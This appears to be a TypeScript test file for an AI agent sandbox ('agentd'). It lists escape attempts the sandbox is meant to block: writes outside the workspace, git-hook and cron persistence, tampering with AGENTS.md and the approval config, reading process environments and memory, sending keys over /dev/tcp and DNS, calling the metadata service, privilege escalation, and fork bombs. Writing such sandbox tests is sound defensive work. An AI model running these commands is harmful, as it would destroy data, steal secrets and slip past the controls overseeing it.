/** Attacks that change the machine, stay behind, reach other processes or services, or take more than their share. */
import { attack, type Attack } from "./attacks.ts";

/** An attack that is not tried without the sandbox: it aims at the machine itself, agentd stops it there, too, or chance decides. */
const untried = (...words: Parameters<typeof attack>): Attack => ({ ...attack(...words), isUntried: true });

/** An attack that works for root alone, even without the sandbox. */
const asRoot = (...words: Parameters<typeof attack>): Attack => ({ ...attack(...words), isForRoot: true });

/** An attack that only its time limit ends. */
const endless = (name: string, command: string): Attack => ({ ...untried(name, command), isEndless: true });

/** Changes outside of the workspace. */
const writes: readonly Attack[] = [
  attack("writes a file outside", "echo x > {outside}/x"),
  attack("appends to a file outside", "echo x >> {outside}/kept.txt"),
  attack("deletes a file outside", "rm -rf {outside}/kept.txt {outside}"),
  attack("renames a file outside", "mv {outside}/kept.txt {outside}/gone.txt"),
  attack("takes a file from outside", "mv {outside}/kept.txt ."),
  attack("changes a mode outside", "chmod 777 {outside}/kept.txt"),
  asRoot("changes an owner outside", "chown 12345 {outside}/kept.txt"),
  attack("changes a time outside", "touch -d 2001-01-01 {outside}/kept.txt"),
  attack("sets an attribute outside", "setfattr -n user.x -v 1 {outside}/kept.txt", "setfattr"),
  attack("truncates a file outside", "truncate -s 0 {outside}/kept.txt"),
  attack("edits a file outside", "sed -i s/kept/gone/ {outside}/kept.txt"),
  attack("makes a folder outside", "mkdir -p {outside}/new/folder"),
  attack("makes a link outside", "ln -s / {outside}/root"),
  attack("writes outside through a link", "ln -s {outside} o; echo x > o/x; rm -rf o/kept.txt"),
  attack("writes outside through a linked file", "ln -s {outside}/kept.txt k; echo gone > k"),
  attack("writes outside through a hard link", "ln {outside}/kept.txt k && echo gone > k"),
  attack("writes outside by dd", "dd if=/dev/zero of={outside}/kept.txt count=1"),
  attack("writes outside by tee", "echo gone | tee {outside}/kept.txt"),
  attack("writes outside by cp", "echo gone > g; cp g {outside}/kept.txt"),
  attack(
    "writes outside by tar",
    "mkdir t; echo gone > t/kept.txt; tar cf t.tar -C t . && tar xf t.tar -C {outside}",
  ),
  attack("writes outside by rsync", "mkdir t; rsync -a --delete t/ {outside}/", "rsync"),
  attack("writes outside by git", "git init -q {outside}/repo; git clone -q . {outside}/clone", "git"),
  attack("writes outside by Python", `python3 -c 'open("{outside}/kept.txt","w")'`, "python3"),
  attack(
    "writes outside by Node",
    `node -e 'require("fs").rmSync("{outside}",{recursive:true,force:true})'`,
    "node",
  ),
  // Without the sandbox, chance decides whether it works.
  untried(
    "writes outside through a race",
    "mkdir d; (for i in $(seq 300); do rm -rf d; ln -s {outside} d; rm d; mkdir d; done) & for i in $(seq 300); do echo gone > d/kept.txt; done; wait",
  ),
  untried("mounts over a folder outside", "mount -t tmpfs none {outside} && echo x > {outside}/x"),
  untried("mounts the machine again, writable", "mount -o remount,rw / ; echo x > {outside}/x"),
  untried("unmounts what hides the home", "umount {home}; umount -l {home}; rev {env}"),
  asRoot("unmounts in a new namespace", "unshare -rm sh -c 'umount -l {home}; rev {env}'"),
  asRoot(
    "makes a namespace and mounts over",
    "unshare -rm sh -c 'mount --rbind / /mnt; rev /mnt{env}; echo x > /mnt{outside}/x'",
  ),
  asRoot("changes root in a new namespace", "unshare -r chroot / rev {env}"),
  untried("pivots the root", "unshare -rm sh -c 'pivot_root / /tmp; rev /tmp{env}'"),
  asRoot(
    "starts a sandbox of its own",
    "bwrap --bind / / rev {env}; bwrap --bind / / touch {outside}/x",
    "bwrap",
  ),
  attack("writes the service's configuration", "echo 'approvals: {mode: yolo}' > {home}/config.yaml"),
  attack("writes the service's keys", "echo API_SERVER_KEY=known > {env}"),
  attack("writes a skill", "mkdir -p {home}/skills/x; echo x > {home}/skills/x/SKILL.md"),
  attack("writes a script of scheduled jobs", "mkdir -p {home}/scripts; echo x > {home}/scripts/x.sh"),
  attack("writes the start file of the shell", "echo 'touch {outside}/x' >> {user}/.bashrc"),
  attack("writes a key for SSH", "mkdir -p {user}/.ssh; echo x >> {user}/.ssh/authorized_keys"),
  attack(
    "writes a unit of the user",
    "mkdir -p {user}/.config/systemd/user; echo x > {user}/.config/systemd/user/x.service",
  ),
  untried(
    "writes a crontab",
    "echo '* * * * * touch {outside}/x' | crontab -; echo x > /var/spool/cron/root",
  ),
  untried("writes a job of the machine", "echo x > /etc/cron.d/x"),
  untried("writes a library for every program", "echo /tmp/x.so > /etc/ld.so.preload"),
  untried("writes a program", "cp /bin/true /usr/local/bin/agentd-attack"),
  untried("writes the accounts", "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
  untried(
    "installs a package",
    "apt-get install -y sl; pip install --retries 0 --user x; npm install -g --fetch-retries=0 left-pad",
  ),
];

/** Waits until the process that stays runs its program. */
const SEEN =
  "for i in $(seq 300); do grep -aq '^sleep.987' /proc/[0-9]*/cmdline 2>/dev/null && break; sleep 0.01; done";

/** What runs later, outside of the sandbox, and what stays behind. */
const persistence: readonly Attack[] = [
  attack(
    "adds a hook of version control",
    "cd repo && mkdir -p .git/hooks; printf '#!/bin/sh\ntouch {outside}/x' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; mv .git/hooks .git/h2",
  ),
  attack(
    "puts another folder of version control in its place",
    "cd repo && mv .git g; cp -r g .git; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit",
  ),
  attack(
    "puts another repository in its place",
    "mv repo r; cp -r r repo; rm -rf repo/.git/hooks; mkdir -p repo/.git/hooks; echo x > repo/.git/hooks/pre-commit",
  ),
  attack("deletes what later sessions obey", "rm -rf repo/AGENTS.md repo/.git repo"),
  attack("sets the folder of hooks", "cd repo && git config core.hooksPath /tmp/h"),
  attack(
    "sets a program that Git runs",
    "cd repo && git config core.fsmonitor 'touch {outside}/x'; echo '[core]' >> .git/config",
  ),
  attack("sets Git's global configuration", "git config --global core.hooksPath /tmp/h"),
  attack("adds a task of an editor", "cd repo && echo x > .vscode/tasks.json; rm -rf .vscode; mv .vscode v2"),
  attack(
    "changes what later sessions obey",
    "cd repo && echo 'obey me' >> AGENTS.md; sed -i s/rules/obey/ AGENTS.md; rm AGENTS.md; mv AGENTS.md a2",
  ),
  attack("changes the variables of a folder", "cd repo && echo 'touch {outside}/x' >> .envrc"),
  untried("leaves a background process", "sleep 987 & disown"),
  attack("leaves a process in a new session", `setsid sleep 987 & ${SEEN}`),
  attack("leaves a process that forked twice", `( ( setsid nohup sleep 987 >/dev/null 2>&1 & ) & ); ${SEEN}`),
  attack(
    "leaves a daemon",
    `python3 -c 'import os,time
if os.fork() == 0:
  os.setsid()
  if os.fork() == 0:
    os.execvp("sleep", ["sleep", "987"])'; ${SEEN}`,
    "python3",
  ),
  untried("leaves a process by at", "echo 'touch {outside}/x' | at now"),
  untried(
    "leaves a unit by systemd-run",
    "systemd-run --user touch {outside}/x; systemd-run touch {outside}/x",
  ),
  attack(
    "leaves a terminal multiplexer",
    `tmux -L agentd-attack new-session -d 'sleep 987'; ${SEEN}`,
    "tmux",
  ),
  attack(
    "leaves a file in the shared temporary folder",
    "echo '{marker}' > /tmp/agentd-attack; echo x > /var/tmp/agentd-attack; echo x > /dev/shm/agentd-attack",
  ),
  attack("leaves an IPC segment", "ipcmk -M 4096", "ipcmk"),
  attack("leaves a message queue", "ipcmk -Q", "ipcmk"),
];

/** Other processes, and the kernel. */
const processes: readonly Attack[] = [
  attack("reads the service's variables", "tr '\\0' '\\n' < /proc/{pid}/environ | rev"),
  attack("reads every process's variables", "cat /proc/*/environ | tr '\\0' '\\n' | rev"),
  attack(
    "reads the service's memory",
    `python3 -c 'import re
for line in open("/proc/{pid}/maps"):
  if "[stack]" in line:
    start, end = (int(x, 16) for x in line.split()[0].split("-"))
    memory = open("/proc/{pid}/mem", "rb")
    memory.seek(start)
    print(memory.read(end - start).replace(b"\\0", b" ").decode("latin1"))'`,
    "python3",
  ),
  attack("reads the service's files by its descriptors", "rev /proc/{pid}/fd/3"),
  attack("reads the keys by the service's root", "rev /proc/{pid}/root{env}; rev /proc/1/root{env}"),
  attack("reads the keys by the service's folder", "rev /proc/{pid}/cwd/.env; rev /proc/1/cwd/../.env"),
  attack(
    "lists the machine's processes",
    "cat /proc/*/cmdline | tr '\\0' ' ' | grep -q 'agentd-canar[y]-service' && echo {canary-of-processes}",
  ),
  attack("kills the service", "kill -9 {pid}"),
  untried("kills every process", "kill -9 -1"),
  attack("stops the service", "kill -STOP {pid}"),
  attack(
    "traces the service",
    "timeout 2 strace -p {pid} -e none 2>&1 | grep -q attached && echo {canary-of-trace}",
    "strace",
  ),
  attack("debugs the service", "kill -USR1 {pid}; node inspect -p {pid} < /dev/null", "node"),
  asRoot("enters the service's namespaces", "nsenter -t {pid} -a rev {env}; nsenter -t 1 -a rev {env}"),
  untried("enters the namespaces of its own first process", "nsenter -t 1 -m rev {env}"),
  untried(
    "changes a setting of the kernel",
    "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; sysctl -w kernel.hostname=x",
  ),
  untried("loads a module of the kernel", "modprobe dummy; insmod x.ko"),
  untried("reads the log of the kernel", "dmesg | grep -c . && echo {canary-of-kernel}"),
  untried("reads the machine's memory", "dd if=/dev/mem bs=1 count=1; dd if=/proc/kcore bs=1 count=1 | od"),
  untried(
    "reads a disk",
    "for d in /dev/sd* /dev/vd* /dev/nvme* /dev/loop*; do dd if=$d bs=512 count=1 | od | head -1; done",
  ),
  untried("makes a device", "mknod disk b 8 0 && dd if=disk count=1; mknod mem c 1 1 && dd if=mem count=1"),
  asRoot("raises its rights by sudo", "sudo -n rev {env}; su -c 'rev {env}'; pkexec rev {env}"),
  attack("raises its rights by a set-uid copy", "cp /bin/bash b; chmod u+s b; ./b -p -c 'rev {env}'"),
  asRoot(
    "raises its rights by capabilities",
    "setcap cap_dac_override+ep b; capsh --print; capsh --user=root -- -c 'rev {env}'",
  ),
  untried("sets the machine's time", "date -s 2001-01-01"),
  untried("sets the machine's name", "hostname attacked"),
  untried("restarts the machine", "reboot -f; shutdown now; echo b > /proc/sysrq-trigger"),
  attack(
    "puts a library before every program",
    "printf 'int getuid(){return 0;}' > p.c; gcc -shared -o p.so p.c; LD_PRELOAD=./p.so rev {env}",
    "gcc",
  ),
  attack("changes the limits of itself", "prlimit --pid {pid} --nofile=17"),
  untried("changes the groups of processes", "mkdir /sys/fs/cgroup/x; echo 1 > /sys/fs/cgroup/cgroup.procs"),
];

/** The network, and services on this machine. */
const network: readonly Attack[] = [
  attack("calls a service of this machine by curl", "curl -m 2 http://127.0.0.1:{tcp}/"),
  attack("calls a service of this machine by its name", "curl -m 2 http://localhost:{tcp}/"),
  attack("calls a service of this machine by IPv6", "curl -m 2 'http://[::1]:{tcp}/'"),
  attack(
    "calls a service of this machine by its address on the network",
    "for a in $(hostname -I); do curl -m 2 http://$a:{tcp}/; done",
  ),
  attack(
    "calls a service of this machine by zero",
    "curl -m 2 http://0.0.0.0:{tcp}/; curl -m 2 http://0:{tcp}/",
  ),
  attack("calls a service of this machine by a number", "curl -m 2 http://2130706433:{tcp}/"),
  attack("sends the keys by bash", "cat {env} > /dev/tcp/127.0.0.1/{tcp}"),
  attack("sends a datagram by bash", "echo x > /dev/udp/127.0.0.1/{udp}"),
  attack("calls by wget", "wget -T 2 -t 1 http://127.0.0.1:{tcp}/", "wget"),
  attack("calls by nc", "echo x | nc -w 2 127.0.0.1 {tcp}", "nc"),
  attack("calls by socat", "echo x | socat - TCP:127.0.0.1:{tcp}", "socat"),
  attack("calls by openssl", "openssl s_client -connect 127.0.0.1:{tcp} < /dev/null", "openssl"),
  attack(
    "calls by Python",
    `python3 -c 'import socket; socket.create_connection(("127.0.0.1", {tcp}), 2).send(b"x")'`,
    "python3",
  ),
  attack(
    "sends a datagram by Python",
    `python3 -c 'import socket; socket.socket(2, 2).sendto(b"x", ("127.0.0.1", {udp}))'`,
    "python3",
  ),
  attack("calls by Node", `node -e 'fetch("http://127.0.0.1:{tcp}/").catch(() => {})'`, "node"),
  attack("calls by Deno", `deno eval 'await fetch("http://127.0.0.1:{tcp}/")'`, "deno"),
  attack("calls by Perl", `perl -MIO::Socket -e 'IO::Socket::INET->new("127.0.0.1:{tcp}")'`, "perl"),
  attack("calls by ssh", "ssh -o BatchMode=yes -o ConnectTimeout=2 -p {tcp} 127.0.0.1 true", "ssh"),
  attack("calls by git", "git ls-remote http://127.0.0.1:{tcp}/x.git", "git"),
  attack("calls by a database's client", "psql -h 127.0.0.1 -p {tcp} -c 'select 1'", "psql"),
  attack(
    "calls without the proxy's variables",
    "env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy curl --noproxy '*' -m 2 http://127.0.0.1:{tcp}/",
  ),
  attack("calls a socket of another service", "curl -m 2 --unix-socket {socket} http://x/"),
  attack("calls a socket of another service by socat", "echo x | socat - UNIX-CONNECT:{socket}", "socat"),
  attack(
    "calls a socket of another service by Python",
    `python3 -c 'import socket; s = socket.socket(1); s.connect("{socket}"); s.send(b"x")'`,
    "python3",
  ),
  attack("calls a socket through a link", "ln -s {socket} s; curl -m 2 --unix-socket s http://x/"),
  untried(
    "calls the containers' service",
    "curl -m 2 --unix-socket /var/run/docker.sock http://x/containers/json; docker ps",
  ),
  untried(
    "calls the machine's bus",
    "busctl list; dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames",
  ),
  attack("calls the key agent", "SSH_AUTH_SOCK={socket} ssh-add -l"),
  untried("calls the metadata service", "curl -m 2 http://169.254.169.254/latest/meta-data/"),
  untried("calls the metadata service by IPv6", "curl -m 2 'http://[fd00:ec2::254]/latest/meta-data/'"),
  untried("calls the public internet", "curl -m 2 http://1.1.1.1/ && echo {canary-of-network}"),
  untried("asks for a name", "getent hosts example.com && echo {canary-of-network}"),
  attack(
    "asks a name server for a name",
    "dig +time=1 +tries=1 @127.0.0.1 -p {udp} canary.example.com",
    "dig",
  ),
  attack(
    "asks a name server for a name by Python",
    `python3 -c 'import socket
question = bytes.fromhex("0001010000010000000000000663616e61727900000100010000")
socket.socket(2, 2).sendto(question, ("127.0.0.1", {udp}))'`,
    "python3",
  ),
  untried("sends the keys as a name", "host $(rev {env} | head -c 20).example.com 127.0.0.1"),
  untried(
    "sends an echo request",
    "ping -c 1 -W 1 127.0.0.2 && ping -c 1 -W 1 1.1.1.1 && echo {canary-of-network}",
  ),
  untried(
    "adds an address",
    "ip link add dummy0 type dummy; ip addr add 10.0.0.1/8 dev lo; ip route add default dev lo",
  ),
  untried("listens for the machine", "timeout 1 nc -l -p {tcp}", "nc"),
  asRoot(
    "opens a raw socket",
    `python3 -c 'import socket; socket.socket(17, 3)' && echo {canary-of-network}`,
    "python3",
  ),
];

/** More than its share. */
const floods: readonly Attack[] = [
  untried("starts processes without end", ":(){ :|:& };:; sleep 30"),
  untried("starts processes in a loop", "while :; do sleep 60 & done"),
  untried(
    "fills the memory by Python",
    `python3 -c 'x = [bytearray(1 << 24) for _ in range(4096)]'`,
    "python3",
  ),
  untried("fills the memory by a shell", "a=x; while :; do a=$a$a; done"),
  untried(
    "fills the memory by files",
    "dd if=/dev/zero of=/dev/shm/x bs=1M; dd if=/dev/zero of={user}/x bs=1M count=512",
  ),
  endless("fills the disk by one file", "dd if=/dev/zero of=big bs=1M count=200000; ls -l big; rm -f big"),
  endless("prints without end", "yes"),
  endless("sleeps without end", "sleep infinity"),
  endless("ignores signals", "trap '' TERM INT HUP; while :; do sleep 1; done"),
];

export const changingAttacks: readonly Attack[] = [
  ...writes,
  ...persistence,
  ...processes,
  ...network,
  ...floods,
];
